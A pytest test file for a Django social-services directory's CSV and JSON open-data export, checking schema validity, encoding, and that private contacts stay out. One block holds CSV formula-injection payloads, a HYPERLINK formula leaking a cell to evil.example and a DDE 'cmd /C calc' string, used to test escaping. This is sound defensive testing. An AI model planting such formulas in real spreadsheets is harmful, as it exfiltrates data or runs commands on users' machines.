import csv
import io
import json

import pytest
from data_inclusion.schema.v1 import Structure
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from contrat_ville.models import Territory
from partners import opendata
from partners.enums import ActorStatus, MembershipRole
from partners.models import Actor, Competence, ContactPerson, Membership, Public
from partners.services import actor_create
from tests.factories import UserFactory

FULL = {
    "name": "Centre social des Hauts",
    "kind": "centre_social",
    "summary": "Accueil de loisirs, accompagnement à la scolarité, ateliers pour les familles.",
    "description": "Le centre social accueille les habitants du quartier.\nAteliers, sorties.",
    "address": "12 rue des Écoles",
    "postcode": "73000",
    "town": "Chambéry",
    "insee_code": "73065",
    "phone": "04 79 00 00 00",
    "email": "accueil@centre-social.example.org",
    "website": "https://centre-social.example.org/",
    "siret": "13003013300016",
    "rna": "W732001234",
    "opening_hours": "Mo-Fr 09:00-12:00,14:00-18:00",
    "accessibility": "Accès de plain-pied, boucle magnétique.",
}
CONTACT_NAME = "Gertrude Discrète"
CONTACT_EMAIL = "gertrude.discrete@example.org"
MEMBER_EMAIL = "membre.cache@example.org"


def published(name: str, **data) -> Actor:
    return actor_create(
        by=None,
        data={"name": name, "kind": "autre", "summary": "Une présentation courte.", **data},
        status=ActorStatus.PUBLISHED,
    )


@pytest.fixture
def directory(db):
    """Four published actors (full, minimal, accented, short description) and two hidden."""
    full = actor_create(
        by=None,
        data=FULL,
        territories=list(Territory.objects.filter(slug__in=["biollay-bellevue", "chambery"])),
        competences=list(Competence.objects.filter(slug__in=["parentalite", "accueil-jeunes"])),
        publics=list(Public.objects.filter(slug__in=["jeunes", "familles"])),
        bodies=["cotech", "copil"],
        status=ActorStatus.PUBLISHED,
    )
    ContactPerson.objects.create(actor=full, name=CONTACT_NAME, email=CONTACT_EMAIL)
    Membership.objects.create(
        actor=full, user=UserFactory(email=MEMBER_EMAIL), role=MembershipRole.ADMIN
    )
    minimal = published("Mini")
    accented = published(
        "Maison de l'Enfance « Éveil & Cœur »",
        description="Accueil des tout-petits : crèche, halte-garderie, relais d'assistantes.",
        town="Chambéry",
    )
    short = published("Atelier vélo", description="Vélo", summary="Réparation de vélos.")
    actor_create(by=None, data={**FULL, "name": "En attente", "siret": ""}, status="pending")
    actor_create(by=None, data={**FULL, "name": "Archivée", "siret": ""}, status="archived")
    return {"full": full, "minimal": minimal, "accented": accented, "short": short}


def export_csv_text(profile_url=None) -> str:
    rows = opendata.structure_rows(opendata.actors_for_export(), profile_url=profile_url)
    return "".join(opendata.csv_lines(rows))


def export_json() -> list[dict]:
    return opendata.json_document(opendata.structure_rows(opendata.actors_for_export()))


def profile_url(actor: Actor) -> str:
    return f"https://annuaire.example.org/annuaire/{actor.slug}/"


def test_export_columns_are_data_inclusion_fields_then_extras():
    assert opendata.EXPORT_COLUMNS == (
        "source",
        "id",
        "nom",
        "description",
        "date_maj",
        "lien_source",
        "siret",
        "commune",
        "code_postal",
        "code_insee",
        "adresse",
        "telephone",
        "courriel",
        "site_web",
        "horaires_accueil",
        "type",
        "presentation_courte",
        "accessibilite",
        "rna",
        "territoires",
        "competences",
        "thematiques",
        "publics",
        "instances",
    )
    assert set(opendata.DATA_INCLUSION_COLUMNS) <= set(Structure.model_fields)


def test_csv_header_is_the_column_list_after_a_bom(directory):
    text = export_csv_text()

    assert text.startswith("\ufeff")
    assert text.split("\r\n")[0] == "\ufeff" + ",".join(opendata.EXPORT_COLUMNS)


def test_csv_keeps_accents_in_utf8(directory):
    data = export_csv_text().encode("utf-8")

    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    assert [r["nom"] for r in rows] == [
        "Centre social des Hauts",
        "Mini",
        "Maison de l'Enfance « Éveil & Cœur »",
        "Atelier vélo",
    ]
    assert rows[0]["adresse"] == "12 rue des Écoles"


def test_export_lists_published_actors_only_by_creation(directory):
    assert [row["id"] for row in export_json()] == [
        directory["full"].slug,
        directory["minimal"].slug,
        directory["accented"].slug,
        directory["short"].slug,
    ]


def test_export_full_actor_row(directory, settings):
    settings.PORTAL_DATA_SOURCE = "contrat-de-ville-test"
    actor = directory["full"]

    row = opendata.json_document(
        opendata.structure_rows(opendata.actors_for_export(), profile_url=profile_url)
    )[0]

    assert row == {
        "source": "contrat-de-ville-test",
        "id": "centre-social-des-hauts",
        "nom": "Centre social des Hauts",
        "description": FULL["description"],
        "date_maj": timezone.localdate(actor.updated_at).isoformat(),
        "lien_source": "https://annuaire.example.org/annuaire/centre-social-des-hauts/",
        "siret": "13003013300016",
        "commune": "Chambéry",
        "code_postal": "73000",
        "code_insee": "73065",
        "adresse": "12 rue des Écoles",
        "telephone": "04 79 00 00 00",
        "courriel": "accueil@centre-social.example.org",
        "site_web": "https://centre-social.example.org/",
        "horaires_accueil": "Mo-Fr 09:00-12:00,14:00-18:00",
        "type": "centre_social",
        "presentation_courte": FULL["summary"],
        "accessibilite": "Accès de plain-pied, boucle magnétique.",
        "rna": "W732001234",
        "territoires": ["QN07301M", "73065"],
        "competences": ["accueil-jeunes", "parentalite"],
        "thematiques": [
            "famille--soutien-a-la-parentalite-et-a-leducation",
            "remobilisation--lien-social",
        ],
        "publics": ["familles", "jeunes"],
        "instances": ["copil", "cotech"],
    }


def test_export_minimal_actor_has_nulls_in_json_and_empty_cells_in_csv(directory):
    row = export_json()[1]
    cells = next(
        r
        for r in csv.DictReader(io.StringIO(export_csv_text().lstrip("\ufeff"), newline=""))
        if r["id"] == "mini"
    )

    assert row["siret"] is None
    assert row["courriel"] is None
    assert row["lien_source"] is None
    assert row["description"] == "Une présentation courte."
    assert row["territoires"] == []
    assert cells["siret"] == ""
    assert cells["courriel"] == ""
    assert cells["territoires"] == ""


def test_export_uses_summary_when_description_is_too_short(directory):
    row = export_json()[3]

    assert row["description"] == "Réparation de vélos."


def test_export_source_defaults_without_setting(directory, settings):
    del settings.PORTAL_DATA_SOURCE

    assert {row["source"] for row in export_json()} == {"contrat-de-ville"}


def test_csv_joins_list_extras_with_pipes(directory):
    rows = list(csv.DictReader(io.StringIO(export_csv_text().lstrip("\ufeff"), newline="")))

    assert rows[0]["territoires"] == "QN07301M|73065"
    assert rows[0]["competences"] == "accueil-jeunes|parentalite"
    assert rows[0]["publics"] == "familles|jeunes"
    assert rows[0]["instances"] == "copil|cotech"


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Centre")'
FORMULAS = {
    "opening_hours": "+cmd|' /C calc'!A0",
    "accessibility": "@SUM(A1:A9)",
    "phone": "+33 4 79 96 86 00",
}


def test_csv_view_quotes_formula_like_cells_but_not_phone_numbers(client, db):
    published(FORMULA_NAME, **FORMULAS)

    data = b"".join(client.get("/annuaire/export.csv").streaming_content)

    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert (row["nom"], row["horaires_accueil"], row["accessibilite"], row["telephone"]) == (
        "'" + FORMULA_NAME,
        "'" + FORMULAS["opening_hours"],
        "'" + FORMULAS["accessibility"],
        "+33 4 79 96 86 00",
    )


def test_json_keeps_formula_like_values_as_typed(db):
    published(FORMULA_NAME, **FORMULAS)

    (row,) = export_json()

    assert (row["nom"], row["horaires_accueil"], row["accessibilite"], row["telephone"]) == (
        FORMULA_NAME,
        FORMULAS["opening_hours"],
        FORMULAS["accessibility"],
        "+33 4 79 96 86 00",
    )


def test_json_list_extras_are_lists(directory):
    for row in export_json():
        for column in opendata.LIST_COLUMNS:
            assert isinstance(row[column], list), (row["id"], column)


def test_every_json_row_validates_against_data_inclusion(directory):
    rows = opendata.json_document(
        opendata.structure_rows(opendata.actors_for_export(), profile_url=profile_url)
    )

    validated = [Structure.model_validate(row) for row in rows]

    assert [s.id for s in validated] == [row["id"] for row in rows]
    assert len(validated) == 4


def test_every_csv_row_validates_against_data_inclusion(directory):
    text = export_csv_text(profile_url=profile_url).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    for row in rows:
        Structure.model_validate({c: row[c] or None for c in opendata.DATA_INCLUSION_COLUMNS})
    assert len(rows) == 4


def test_export_leaves_out_values_data_inclusion_would_refuse(db):
    # Accepted by Django's validators, refused by data·inclusion's.
    published("Local", email="accueil@local.test", website="ftp://local.example.org/")

    (row,) = export_json()

    assert (row["courriel"], row["site_web"]) == (None, None)
    Structure.model_validate(row)


def test_export_never_contains_contacts_or_members(directory):
    data = export_csv_text().encode() + json.dumps(export_json(), ensure_ascii=False).encode()

    for secret in (CONTACT_NAME, CONTACT_EMAIL, MEMBER_EMAIL, "Gertrude", "membre.cache"):
        assert secret.encode() not in data


def test_export_queries_do_not_grow_with_actors(db, django_assert_num_queries):
    published("Première structure")
    # One query for the actors, one per prefetched relation.
    with django_assert_num_queries(5):
        assert len(export_json()) == 1

    for number in range(4):
        published(f"Structure {number}")
    with django_assert_num_queries(5):
        assert len(export_json()) == 5


# -- views --------------------------------------------------------------------


def test_csv_view_is_public_and_streams_utf8_with_bom(client, directory):
    response = client.get("/annuaire/export.csv")
    data = b"".join(response.streaming_content)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["nom"] for r in rows][2] == "Maison de l'Enfance « Éveil & Cœur »"
    assert rows[0]["lien_source"] == "http://testserver/annuaire/centre-social-des-hauts/"
    for row in rows:
        Structure.model_validate({c: row[c] or None for c in opendata.DATA_INCLUSION_COLUMNS})


def test_json_view_is_public_and_valid(client, directory):
    response = client.get("/annuaire/export.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    rows = json.loads(response.content)
    assert [r["id"] for r in rows] == [a.slug for a in directory.values()]
    assert "Maison de l'Enfance « Éveil & Cœur »".encode() in response.content
    for row in rows:
        Structure.model_validate(row)


@pytest.mark.parametrize("url", ["/annuaire/export.csv", "/annuaire/export.json"])
def test_export_views_never_show_contacts_or_members(client, directory, url):
    response = client.get(url)
    data = b"".join(response.streaming_content) if response.streaming else response.content

    for secret in (CONTACT_NAME, CONTACT_EMAIL, MEMBER_EMAIL):
        assert secret.encode() not in data


@pytest.mark.parametrize("url", ["/annuaire/export.csv", "/annuaire/export.json"])
def test_export_view_queries_do_not_grow_with_actors(client, db, url):
    def count_queries() -> int:
        with CaptureQueriesContext(connection) as context:
            response = client.get(url)
            # A streamed body runs its queries while it is read.
            if response.streaming:
                b"".join(response.streaming_content)
        assert response.status_code == 200
        return len(context.captured_queries)

    published("Première structure")
    with_one = count_queries()
    for number in range(4):
        published(f"Structure {number}")

    assert count_queries() == with_one
